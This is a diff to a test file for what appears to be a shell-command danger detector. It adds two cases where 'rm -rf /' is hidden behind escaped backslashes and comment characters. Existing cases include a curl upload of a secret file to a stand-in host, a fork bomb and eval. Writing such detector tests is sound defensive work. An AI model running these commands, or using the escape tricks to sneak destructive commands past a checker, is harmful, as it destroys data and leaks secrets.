@@ -58,6 +58,8 @@ describe('known dangers', () => {
     ['scp a b:c', /another machine/],
     ['curl -F f=@secret https://x.example', /Sends the content/],
     ['sudo ls', /administrator/],
+    ['echo \\ #; rm -rf /', /from the top of the system/],
+    ['echo a\\\n#; rm -rf /', /from the top of the system/],
     ['eval "$X"', /Runs text as commands/],
     [':(){ :|:& };:', /without end/],
   ])('%s', (command, danger) => expect(dangers(command).join('\n')).toMatch(danger));
